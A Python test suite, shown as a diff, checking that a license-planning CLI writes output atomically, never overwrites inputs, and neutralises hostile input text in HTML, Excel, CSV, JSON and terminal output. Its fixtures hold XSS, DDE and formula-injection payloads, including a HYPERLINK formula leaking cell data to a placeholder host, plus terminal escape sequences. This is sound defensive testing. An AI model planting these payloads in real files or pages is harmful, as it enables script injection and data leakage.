@@ -1,0 +1,540 @@
+"""Output is written safely: never over an input, never half-written, never able to run code.
+
+Every command that writes a file (forecast -o, report --html/--xlsx/--json/--out, whatif -o,
+verify --inventory --out) writes to a temporary file beside the target and moves it into place
+only when finished. These tests show, through the CLI, that an input is never overwritten, that a
+failed run leaves earlier output untouched with no temporary files behind, and that text taken
+from input files stays inert in every renderer: escaped in HTML, text (not formulas) in Excel
+and CSV, valid in JSON, and free of terminal control sequences in tables and markdown.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import re
+import socket
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import openpyxl
+import pytest
+from click.testing import CliRunner, Result
+
+from planner.cli import cli
+from planner.inventory_io import FORMULA_PREFIXES, neutralise_formula
+from planner.output import atomic_write_text, write_all
+from planner.report.xlsx import safe_cell_text
+
+AS_OF = ("--as-of", "2026-12")
+EARLIER = "an earlier report\n"
+
+# Names an attacker (or an unlucky copy and paste) could put into an inventory.
+SCRIPT_NAME = '<script>alert("owned")</script>'
+FORMULA_NAMES = (
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
+    "+SUM(1,2)*cmd",
+    "-2+3+cmd",
+    "@SUM(A1)cmd",
+)
+QUOTED_NAME = 'He said "hi" \\ back\\slash </b> \u2028 end'
+ESCAPE_NAME = "RED \x1b[31mALERT\x1b]0;title\x07"
+SKU = "=1+1+SKU"
+
+
+def invoke(*args: str, color: bool = False, env: dict[str, str] | None = None) -> Result:
+    return CliRunner().invoke(cli, list(args), color=color, env=env)
+
+
+def leftovers(folder: Path) -> list[str]:
+    """Temporary files of an interrupted write (``.<name>.<random>.tmp``)."""
+    return sorted(path.name for path in folder.rglob("*.tmp"))
+
+
+def write_csv(path: Path, rows: list[list[str]]) -> Path:
+    buffer = io.StringIO()
+    csv.writer(buffer, lineterminator="\n").writerows(rows)
+    path.write_text(buffer.getvalue(), encoding="utf-8")
+    return path
+
+
+@pytest.fixture
+def plain(tmp_path: Path) -> tuple[Path, Path]:
+    """A small, valid license sheet and inventory."""
+    licenses = tmp_path / "licenses.csv"
+    licenses.write_text("sku,quantity\nDYN365_FINANCE,25\n", encoding="utf-8")
+    environments = write_csv(
+        tmp_path / "environments.csv",
+        [
+            ["name", "type", "tier", "power_platform", "org_url", "dataverse_database_gb"],
+            ["PROD", "production", "", "integrated", "", "4"],
+            ["UAT", "sandbox", "2", "initial", "", ""],
+            ["CE", "dataverse_production", "", "", "", "3"],
+        ],
+    )
+    return licenses, environments
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> tuple[Path, Path]:
+    """Inputs whose names are markup, formulas, quotes and terminal escape sequences."""
+    folder = tmp_path / "hostile"
+    folder.mkdir()
+    licenses = write_csv(
+        folder / "licenses.csv",
+        [
+            ["sku", "quantity", "display_name"],
+            [SKU, "5", SCRIPT_NAME],
+            ["DYN365_FINANCE", "25", ""],
+        ],
+    )
+    header = ["name", "type", "tier", "power_platform", "org_url", "dataverse_database_gb"]
+    rows = [
+        [SCRIPT_NAME, "dataverse_production", "", "", "javascript:alert(1)", "3"],
+        [QUOTED_NAME, "dataverse_sandbox", "", "", "", "2"],
+        [ESCAPE_NAME, "production", "", "initial", "", ""],
+        *([name, "developer", "", "", "", "1"] for name in FORMULA_NAMES),
+    ]
+    return licenses, write_csv(folder / "environments.csv", [header, *rows])
+
+
+# ---------------------------------------------------------------------------------------------
+# Never over an input
+
+
+def scenario_file(folder: Path) -> Path:
+    path = folder / "scenario.toml"
+    path.write_text(
+        'name = "More"\n[[changes]]\nkind = "buy_addon"\npool = "database"\ngb = 5\n',
+        encoding="utf-8",
+    )
+    return path
+
+
+OVERWRITES: dict[str, Callable[[Path, Path, Path], list[str]]] = {
+    "forecast -o licenses": lambda lic, env, scen: ["forecast", str(lic), str(env), "-o", str(lic)],
+    "forecast -o history": lambda lic, env, scen: [
+        "forecast",
+        str(lic),
+        "--history",
+        str(env),
+        "-o",
+        str(env),
+    ],
+    "report --html": lambda lic, env, scen: ["report", str(lic), str(env), "--html", str(env)],
+    "report --xlsx": lambda lic, env, scen: ["report", str(lic), str(env), "--xlsx", str(lic)],
+    "report --json": lambda lic, env, scen: ["report", str(lic), str(env), "--json", str(env)],
+    "whatif -o input": lambda lic, env, scen: [
+        "whatif",
+        str(lic),
+        str(env),
+        "--scenario",
+        str(scen),
+        "-o",
+        str(env),
+    ],
+    "whatif -o scenario": lambda lic, env, scen: [
+        "whatif",
+        str(lic),
+        str(env),
+        "--scenario",
+        str(scen),
+        "-o",
+        str(scen),
+    ],
+    "report --xlsx scenario": lambda lic, env, scen: [
+        "report",
+        str(lic),
+        str(env),
+        "--scenario",
+        str(scen),
+        "--xlsx",
+        str(scen),
+    ],
+    "verify --out": lambda lic, env, scen: ["verify", "--inventory", str(env), "--out", str(env)],
+    "forced --licenses": lambda lic, env, scen: [
+        "forecast",
+        "--licenses",
+        str(lic),
+        str(env),
+        "-o",
+        str(lic),
+    ],
+}
+
+
+@pytest.mark.parametrize("case", sorted(OVERWRITES))
+def test_an_input_is_never_overwritten(case: str, plain: tuple[Path, Path]) -> None:
+    licenses, environments = plain
+    scenario = scenario_file(licenses.parent)
+    before = {path: path.read_bytes() for path in licenses.parent.iterdir()}
+    args = OVERWRITES[case](licenses, environments, scenario)
+    result = invoke(*args, *(AS_OF if args[0] != "verify" else ()))
+    assert result.exit_code == 2, result.stderr
+    assert result.stderr.startswith("capplan: error:")
+    assert "refusing to write" in result.stderr and "over an input file" in result.stderr
+    assert {path: path.read_bytes() for path in licenses.parent.iterdir()} == before
+
+
+def test_other_spellings_of_an_input_are_refused(
+    plain: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    licenses, _environments = plain
+    folder = licenses.parent
+    (folder / "sub").mkdir()
+    os.link(licenses, folder / "hard-link.csv")
+    (folder / "symbolic-link.csv").symlink_to(licenses)
+    monkeypatch.chdir(folder)
+    before = licenses.read_bytes()
+    for target in ("./sub/../licenses.csv", "hard-link.csv", "symbolic-link.csv"):
+        result = invoke("forecast", "licenses.csv", "environments.csv", *AS_OF, "-o", target)
+        assert result.exit_code == 2, (target, result.stderr)
+        assert "over an input file" in result.stderr
+    assert licenses.read_bytes() == before
+    assert (folder / "symbolic-link.csv").is_symlink()
+
+
+def test_report_out_folder_refuses_a_name_taken_by_an_input(plain: tuple[Path, Path]) -> None:
+    licenses, environments = plain
+    folder = licenses.parent / "reports"
+    folder.mkdir()
+    taken = folder / "capplan-2026-12.json"
+    taken.write_bytes(licenses.read_bytes())
+    result = invoke("report", str(taken), str(environments), *AS_OF, "--out", str(folder))
+    assert result.exit_code == 2, result.stderr
+    assert "refusing to write --json over an input file" in result.stderr
+    assert taken.read_bytes() == licenses.read_bytes()
+    assert sorted(path.name for path in folder.iterdir()) == ["capplan-2026-12.json"]
+
+
+# ---------------------------------------------------------------------------------------------
+# Never half-written
+
+
+def earlier_outputs(folder: Path, *names: str) -> dict[Path, bytes]:
+    outputs = {}
+    for name in names:
+        path = folder / name
+        path.write_text(EARLIER + name, encoding="utf-8")
+        outputs[path] = path.read_bytes()
+    return outputs
+
+
+def unchanged(outputs: dict[Path, bytes]) -> bool:
+    return all(path.read_bytes() == data for path, data in outputs.items())
+
+
+@pytest.mark.parametrize("command", ["forecast", "whatif", "report", "verify"])
+def test_bad_input_leaves_earlier_output_untouched(command: str, tmp_path: Path) -> None:
+    bad = tmp_path / "bad.csv"
+    bad.write_text("name,type,org_url\nPROD,production,\nPROD,sandbox,\n", encoding="utf-8")
+    outputs = earlier_outputs(tmp_path, "out.txt", "plan.html", "plan.xlsx", "plan.json")
+    out = str(tmp_path / "out.txt")
+    args = {
+        "forecast": ["forecast", str(bad), "-o", out],
+        "whatif": ["whatif", str(bad), "--add-licenses", "DYN365_FINANCE=5", "-o", out],
+        "report": [
+            "report",
+            str(bad),
+            *(f"--{kind}={tmp_path / f'plan.{kind}'}" for kind in ("html", "xlsx", "json")),
+        ],
+        "verify": ["verify", "--inventory", str(bad), "--out", out],
+    }[command]
+    result = invoke(*args, *(AS_OF if command != "verify" else ()))
+    assert result.exit_code == 2, result.stderr
+    assert "used twice" in result.stderr
+    assert unchanged(outputs)
+    assert leftovers(tmp_path) == []
+
+
+def test_a_writer_failing_midway_leaves_every_report_untouched(
+    plain: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """HTML is finished first, then the workbook fails half-written: nothing moves into place."""
+    import planner.report.xlsx
+
+    seen: list[Path] = []
+
+    def half_written(plan: object, path: Path, *more: object) -> None:
+        seen.append(path)
+        path.write_bytes(b"PK\x03\x04 half a workbook")
+        raise OSError("disk full")
+
+    monkeypatch.setattr(planner.report.xlsx, "write_xlsx", half_written)
+    outputs = earlier_outputs(tmp_path, "plan.html", "plan.xlsx", "plan.json")
+    licenses, environments = plain
+    result = invoke(
+        "report",
+        str(licenses),
+        str(environments),
+        *AS_OF,
+        "--html",
+        str(tmp_path / "plan.html"),
+        "--xlsx",
+        str(tmp_path / "plan.xlsx"),
+        "--json",
+        str(tmp_path / "plan.json"),
+    )
+    assert result.exit_code == 70, result.stderr
+    assert "OSError: disk full" in result.stderr
+    assert seen and seen[0].parent == tmp_path and seen[0].name.endswith(".tmp")
+    assert unchanged(outputs)
+    assert leftovers(tmp_path) == []
+    assert "wrote" not in result.stdout
+
+
+def test_verify_failure_leaves_the_earlier_inventory_untouched(
+    plain: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import planner.verify
+
+    def broken(*args: object, **kwargs: object) -> None:
+        raise RuntimeError("network vanished")
+
+    monkeypatch.setattr(planner.verify, "verify_inventory", broken)
+    inventory = write_csv(
+        tmp_path / "inventory.csv",
+        [["name", "type", "org_url"], ["CE", "dataverse_production", "https://ce.example.invalid"]],
+    )
+    outputs = earlier_outputs(tmp_path, "verified.csv")
+    result = invoke(
+        "verify",
+        "--inventory",
+        str(inventory),
+        "--out",
+        str(tmp_path / "verified.csv"),
+        env={"DATAVERSE_TOKEN": "t"},
+    )
+    assert result.exit_code == 70
+    assert unchanged(outputs)
+    assert leftovers(tmp_path) == []
+
+
+@pytest.mark.parametrize("failure", [OSError("disk full"), KeyboardInterrupt()])
+def test_write_all_cleans_up_after_any_failure(tmp_path: Path, failure: BaseException) -> None:
+    outputs = earlier_outputs(tmp_path, "a.txt", "b.txt")
+
+    def fail(path: Path) -> None:
+        path.write_text("partial", encoding="utf-8")
+        raise failure
+
+    with pytest.raises(type(failure)):
+        write_all(
+            [
+                (tmp_path / "a.txt", lambda path: path.write_text("new a", encoding="utf-8")),
+                (tmp_path / "b.txt", fail),
+            ]
+        )
+    assert unchanged(outputs)
+    assert leftovers(tmp_path) == []
+
+
+def test_finished_files_replace_earlier_ones_with_ordinary_permissions(tmp_path: Path) -> None:
+    target = tmp_path / "plan.txt"
+    target.write_text("old", encoding="utf-8")
+    atomic_write_text(target, "new")
+    assert target.read_text(encoding="utf-8") == "new"
+    mask = os.umask(0)
+    os.umask(mask)
+    assert target.stat().st_mode & 0o777 == 0o666 & ~mask
+    assert leftovers(tmp_path) == []
+
+
+@pytest.mark.parametrize("command", ["forecast", "whatif", "report"])
+def test_successful_runs_leave_no_temporary_files(
+    command: str, plain: tuple[Path, Path], tmp_path: Path
+) -> None:
+    licenses, environments = plain
+    out = tmp_path / "out"
+    outputs = {
+        "forecast": ["-o", str(out)],
+        "whatif": ["--add-licenses", "DYN365_FINANCE=5", "-o", str(out)],
+        "report": ["--out", str(out)],
+    }[command]
+    result = invoke(command, str(licenses), str(environments), *AS_OF, *outputs)
+    assert result.exit_code == 0, result.stderr
+    assert out.exists()
+    assert leftovers(tmp_path) == []
+
+
+# ---------------------------------------------------------------------------------------------
+# Text from inputs stays inert
+
+
+def test_html_escapes_input_text(hostile: tuple[Path, Path], tmp_path: Path) -> None:
+    out = tmp_path / "plan.html"
+    result = invoke("report", *map(str, hostile), *AS_OF, "--html", str(out))
+    assert result.exit_code == 0, result.stderr
+    html = out.read_text(encoding="utf-8")
+    assert "<script" not in html.lower()
+    assert "&lt;script&gt;alert(" in html
+    assert "&lt;/b&gt;" in html and "</b> \u2028" not in html
+    assert not re.search(r"""href\s*=\s*["']?\s*javascript:""", html, re.IGNORECASE)
+
+
+def formulas_in(path: Path) -> list[str]:
+    """The text of every formula stored in the workbook's sheets."""
+    found = []
+    with zipfile.ZipFile(path) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
+                xml = archive.read(name).decode("utf-8")
+                found += re.findall(r"<f(?:\s[^>]*)?>(.*?)</f>", xml, re.DOTALL)
+    return found
+
+
+def test_xlsx_stores_formula_like_input_text_as_text(
+    hostile: tuple[Path, Path], tmp_path: Path
+) -> None:
+    out = tmp_path / "plan.xlsx"
+    result = invoke("report", *map(str, hostile), *AS_OF, "--xlsx", str(out))
+    assert result.exit_code == 0, result.stderr
+    formulas = formulas_in(out)
+    assert formulas, "the workbook has formulas of its own (SUMIFS), so this check can see them"
+    assert not [f for f in formulas if "cmd" in f or "HYPERLINK" in f or "SKU" in f]
+    workbook = openpyxl.load_workbook(out)
+    cells = {
+        str(cell.value): cell
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value is not None
+    }
+    for text in (*FORMULA_NAMES, SKU):
+        assert text in cells, f"{text!r} is missing from the workbook"
+        assert cells[text].data_type == "s", text
+        assert cells[text].quotePrefix, text
+
+
+def test_scenario_text_stays_inert_in_reports(plain: tuple[Path, Path], tmp_path: Path) -> None:
+    """Scenario names, descriptions and notes reach the comparison section and sheet."""
+    scenario = tmp_path / "hostile.toml"
+    scenario.write_text(
+        'name = "=HYPERLINK(\\"http://example.invalid\\",\\"cmd\\")"\n'
+        "description = \"\\t=cmd|' /C calc'!A0 <script>alert(1)</script>\"\n"
+        '[[changes]]\nkind = "buy_addon"\npool = "database"\ngb = 10\nnote = "@SUM(A1) cmd"\n',
+        encoding="utf-8",
+    )
+    html, xlsx = tmp_path / "plan.html", tmp_path / "plan.xlsx"
+    result = invoke(
+        "report",
+        *map(str, plain),
+        *AS_OF,
+        "--scenario",
+        str(scenario),
+        "--html",
+        str(html),
+        "--xlsx",
+        str(xlsx),
+    )
+    assert result.exit_code == 0, result.stderr
+    assert "<script" not in html.read_text(encoding="utf-8").lower()
+    assert not [f for f in formulas_in(xlsx) if "cmd" in f or "HYPERLINK" in f]
+    texts = [
+        cell
+        for sheet in openpyxl.load_workbook(xlsx).worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and "cmd" in cell.value
+    ]
+    assert any(cell.value.startswith("\t=cmd") for cell in texts)
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in texts), texts
+
+
+@pytest.mark.parametrize("text", [f"{prefix}1+1" for prefix in FORMULA_PREFIXES])
+def test_every_formula_prefix_is_neutralised(text: str) -> None:
+    assert neutralise_formula(text) == "'" + text
+    guarded = safe_cell_text(text)
+    assert not isinstance(guarded, str) and str(guarded) == text  # rich text: stored as text
+
+
+@pytest.mark.parametrize("value", ["PROD", "1+1", "", 12.5, -3, None, float("nan")])
+def test_ordinary_values_pass_unchanged(value: object) -> None:
+    result = neutralise_formula(value)
+    assert result is value
+
+
+def closed_loopback_url() -> str:
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as probe:
+        probe.bind(("127.0.0.1", 0))
+        port = probe.getsockname()[1]
+    return f"http://127.0.0.1:{port}"
+
+
+def test_verified_inventory_csv_neutralises_formulas(tmp_path: Path) -> None:
+    url = closed_loopback_url()
+    header = ["name", "type", "org_url", "dataverse_database_gb"]
+    rows = [[name, "developer", url, "1"] for name in FORMULA_NAMES]
+    inventory = write_csv(tmp_path / "inventory.csv", [header, *rows])
+    out = tmp_path / "verified.csv"
+    result = invoke(
+        "verify",
+        "--inventory",
+        str(inventory),
+        "--out",
+        str(out),
+        "--timeout",
+        "5",
+        env={"DATAVERSE_TOKEN": "test-token"},
+    )
+    assert result.exit_code == 3, result.stderr  # a closed port: the status is unknown
+    written = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
+    assert [row["name"] for row in written] == ["'" + name for name in FORMULA_NAMES]
+    for row in written:
+        assert row["power_platform_verified"] == "unknown"
+        assert not any(value.startswith(FORMULA_PREFIXES) for value in row.values() if value)
+    assert "test-token" not in out.read_text(encoding="utf-8")
+
+
+def names_in(document: dict) -> set[str]:
+    return {line["environment"] for line in document["consumption"]}
+
+
+def test_json_stays_valid_and_exact(hostile: tuple[Path, Path], tmp_path: Path) -> None:
+    printed = invoke("forecast", *map(str, hostile), *AS_OF, "--format", "json")
+    assert printed.exit_code == 0, printed.stderr
+    document = json.loads(printed.stdout)
+    expected = {SCRIPT_NAME, QUOTED_NAME, ESCAPE_NAME, *FORMULA_NAMES}
+    assert names_in(document) == expected
+    assert "\x1b" not in printed.stdout  # escaped as \u001b inside the strings
+    out = tmp_path / "plan.json"
+    written = invoke("report", *map(str, hostile), *AS_OF, "--json", str(out))
+    assert written.exit_code == 0, written.stderr
+    assert names_in(json.loads(out.read_text(encoding="utf-8"))) == expected
+    comparison = invoke(
+        "whatif",
+        *map(str, hostile),
+        *AS_OF,
+        "--add-licenses",
+        "DYN365_FINANCE=5",
+        "--format",
+        "json",
+    )
+    assert comparison.exit_code == 0, comparison.stderr
+    json.loads(comparison.stdout)
+
+
+@pytest.mark.parametrize(
+    ("command", "output_format"),
+    [
+        ("forecast", "table"),
+        ("forecast", "markdown"),
+        ("whatif", "table"),
+        ("whatif", "markdown"),
+    ],
+)
+def test_no_escape_sequence_from_input_reaches_the_terminal(
+    command: str, output_format: str, hostile: tuple[Path, Path]
+) -> None:
+    # whatif shows names in the changes it lists: link the environment with the hostile name.
+    flags = ["--link", ESCAPE_NAME] if command == "whatif" else []
+    # color=True: click must not strip the sequences, a terminal would receive them.
+    result = invoke(
+        command, *map(str, hostile), *AS_OF, *flags, "--format", output_format, color=True
+    )
+    assert result.exit_code == 0, result.stderr
+    assert "ALERT" in result.stdout, "the environment name is shown"
+    assert "\x1b" not in result.stdout
